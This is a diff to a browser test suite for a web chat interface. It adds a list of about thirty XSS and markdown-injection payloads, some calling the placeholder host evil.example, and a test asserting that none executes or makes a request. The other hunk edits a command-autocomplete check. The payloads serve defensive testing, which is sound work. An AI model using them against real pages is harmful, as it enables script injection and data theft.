@@ -1,9 +1,19 @@
 /** The chat in a real browser: answers, tools, stopping, queueing, images, keys. */
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
-import { becomes, openStage, say, signedIn, skipWithoutChromium, until, type Stage } from './ui-stage.ts';
+import { becomes, openStage, say, signedIn, skipWithoutChromium, TOKEN, until, type Stage } from './ui-stage.ts';
 
 const PIXEL = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
+
+/** Ways into a page that other chats were open to; each calls `pwned()` or asks evil.example when it works. */
+const PAYLOADS = [
+  '<script>pwned()</script>', '<img src=x onerror=pwned()>', '<svg/onload=pwned()>', '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
+  '<iframe srcdoc="<script>parent.pwned()</script>">', '<details open ontoggle=pwned()>', '<input autofocus onfocus=pwned()>', '<style>@import "https://evil.example/c.css"</style>', '<link rel=stylesheet href=https://evil.example/c.css>',
+  '<base href=https://evil.example/>', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<form action=https://evil.example/><button>x', '<noscript><p title="</noscript><img src=x onerror=pwned()>">', '<a href="javascript:pwned()">x</a>',
+  '[x](javascript:pwned())', '[x](java&#115;cript:pwned())', '[x](<java\tscript:pwned()>)', '[x](data:text/html,<script>pwned()</script>)', '[x](https://a" onmouseover="pwned())', '![x](https://evil.example/p.png)', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT4=)',
+  '![" onerror="pwned()](data:image/png;base64,AAAA)', '<https://evil.example/"onmouseover="pwned()>', '`` `<img src=x onerror=pwned()>` ``', '```"><img src=x onerror=pwned()>\ncode\n```', '| <img src=x onerror=pwned()> |\n|---|\n| <svg onload=pwned()> |', '- [ ] <img src=x onerror=pwned()>',
+  '[r]: javascript:pwned()\n[x][r]', '\u202e<script>pwned()</script>', '>'.repeat(90),
+];
 
 describe('web chat', { skip: skipWithoutChromium }, () => {
   let stage: Stage;
@@ -29,6 +39,25 @@ describe('web chat', { skip: skipWithoutChromium }, () => {
     assert.equal(await page.locator('td[align="right"]').first().textContent(), '3');
     await page.waitForSelector('code .hljs-comment');
     assert.match(await page.locator('.answer .meta').first().textContent() ?? '', /anthropic\/claude/);
+  });
+
+  test('no known way to smuggle code or requests into the page works, from an answer, a question or an address', async () => {
+    const { page, gateway } = await signedIn(stage);
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.evaluate('window.pwned = () => { window.wasPwned = true; }');
+    for (const [index, payloads] of [PAYLOADS, PAYLOADS.slice(16), PAYLOADS.slice(24)].entries()) {
+      await say(page, payloads.join('\n\n'));
+      await page.waitForSelector(`.answer.done >> nth=${index}`);
+    }
+    const alien = await page.evaluate<string[]>(`[...document.querySelectorAll('.chat *:not(form.composer)')].filter((one) => /^(script|iframe|object|embed|style|link|meta|base|form|animate)$/i.test(one.localName)
+      || [...one.attributes].some(({ name, value }) => /^on/i.test(name) || name === 'srcdoc' || (/^(href|src|action)$/.test(name) && /^\\s*(javascript|data:text)/i.test(value)))).map((one) => one.outerHTML.slice(0, 200))`);
+    assert.deepEqual(alien, []);
+    assert.equal(await page.evaluate('window.wasPwned'), undefined);
+    const other = await stage.open(`${gateway.url}/?session=${encodeURIComponent('"><img src=x onerror=alert(1)>')}#token=${TOKEN}`);
+    await other.waitForSelector('.chat claw-composer textarea');
+    assert.equal(await other.locator('img[src="x"]').count(), 0);
+    assert.deepEqual(asked.filter((url) => url.includes('evil.example')), []);
   });
 
   test('HTML in an answer is inert, remote pictures are links, code can be copied', async () => {
@@ -140,9 +169,9 @@ describe('web chat', { skip: skipWithoutChromium }, () => {
     assert.equal(gateway.requests.find(({ method }) => method === 'chat.send')!.params['message'], 'one\ntwo');
     await field.press('ArrowUp');
     assert.equal(await field.inputValue(), 'one\ntwo');
-    await field.fill('/mod');
+    await field.fill('/com');
     await field.press('Enter');
-    assert.equal(await field.inputValue(), '/model ');
+    assert.equal(await field.inputValue(), '/compact ');
     await field.fill('');
     await page.waitForSelector('.session-title:text("Ana")');
     await page.keyboard.press('Control+k');
